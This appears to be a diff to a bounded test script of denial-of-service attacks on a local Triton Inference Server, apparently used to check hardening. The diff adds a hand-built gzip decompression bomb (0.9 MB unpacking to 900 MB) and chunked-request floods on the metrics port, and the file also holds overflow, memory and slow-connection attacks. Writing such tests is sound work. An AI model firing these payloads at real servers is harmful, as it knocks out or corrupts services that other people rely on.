@@ -1,7 +1,7 @@
 """What a neighbour on the machine can send to a server: each is one request, or a few, that ended or corrupted Triton 2.51.
 
-A script for another user: ``python attacks.py NAME HTTP-PORT GRPC-PORT``. It prints what came back, at most a line for each request, and
-ends by itself: every attack is bounded in bytes, in connections and in time.
+A script for another user, which reads lines ``NAME PORT``. It prints what came back, at most a line for each request, and then a line
+``done``. Every attack is bounded in bytes, in connections and in time.
 """
 
 from __future__ import annotations
@@ -9,6 +9,7 @@ from __future__ import annotations
 import itertools
 import json
 import socket
+import struct
 import sys
 import time
 import zlib
@@ -20,6 +21,8 @@ _HOST = "127.0.0.1"
 _ADD_SUB = "/v2/models/add_sub/infer"
 _STRINGS = "/v2/models/strings/infer"
 CONNECTIONS = 1000
+# The CRC-32 of 900 MB of zeros.
+ZEROS_CRC = 0x8DA6FCDF
 
 
 def send(port: int, head: str, body: Iterator[bytes] | bytes = b"", patience_s: float = _PATIENCE_S) -> str:
@@ -61,9 +64,14 @@ def chunks(http: int, path: str = _ADD_SUB, number: int = 800_000) -> str:
 
 def chunks_where_no_secret_is_needed(http: int) -> list[str]:
     """The same to paths that answer everybody, and to those of the owner."""
-    paths = ("/v2", "/v2/health/ready", "/v2/models/add_sub", "/v2/models/add_sub/config", "/v2/models/add_sub/stats", "/metrics")
+    paths = ("/v2", "/v2/health/ready", "/v2/models/add_sub", "/v2/models/add_sub/config", "/v2/models/add_sub/stats")
     owners = ("/v2/repository/index", "/v2/logging", "/v2/trace/setting", "/v2/systemsharedmemory/region/x/register")
     return [f"{path} {chunks(http, path)}" for path in (*paths, *owners)]
+
+
+def chunks_where_metrics_are(metrics: int) -> list[str]:
+    """The same to the metrics' port, which knows one path."""
+    return [f"{path} {chunks(metrics, path)}" for path in ("/metrics", "/v2")]
 
 
 def overflow(http: int) -> str:
@@ -88,8 +96,10 @@ def memory(http: int) -> str:
 
 def bomb(http: int, path: str = _ADD_SUB) -> str:
     """0.9 MB that unpack to 900 MB."""
-    packer = zlib.compressobj(9, wbits=31)
-    body = b"".join([*(packer.compress(bytes(1_000_000)) for _ in range(900)), packer.flush()])
+    packer = zlib.compressobj(9, wbits=-15)
+    # A part that stands for itself, again and again; then an empty last part, the checksum of so many zeros, and their number.
+    part = packer.compress(bytes(1_000_000)) + packer.flush(zlib.Z_FULL_FLUSH)
+    body = b"\x1f\x8b\x08" + bytes(7) + 900 * part + b"\x03\x00" + struct.pack("<II", ZEROS_CRC, 900_000_000)
     return post(http, path, body, "Content-Encoding: gzip\r\n")
 
 
@@ -254,10 +264,12 @@ def candidates(http: int, number: int = 10_000) -> str:
 
 OVER_GRPC = (grpc_dimension, grpc_classes, grpc_stream, grpc_bomb)
 OVER_HTTP = (overflow, overrun, nested, memory, bomb, dimension, classes, no_classes, candidates, chunks)
-ON_ALL_PATHS = (chunks_where_no_secret_is_needed, climbing, detours, guesses)
+ON_ALL_PATHS = (chunks_where_no_secret_is_needed, chunks_where_metrics_are, climbing, detours, guesses)
 HELD = (idle, slow)
 
 if __name__ == "__main__":
     known = {attack.__name__: attack for attack in (*OVER_HTTP, *OVER_GRPC, *ON_ALL_PATHS, *HELD)}
-    came = known[sys.argv[1]](int(sys.argv[2]))
-    print("\n".join([came] if isinstance(came, str) else came))
+    for line in sys.stdin:
+        name, port = line.split()
+        came = known[name](int(port))
+        print("\n".join([came] if isinstance(came, str) else came), "done", sep="\n", flush=True)
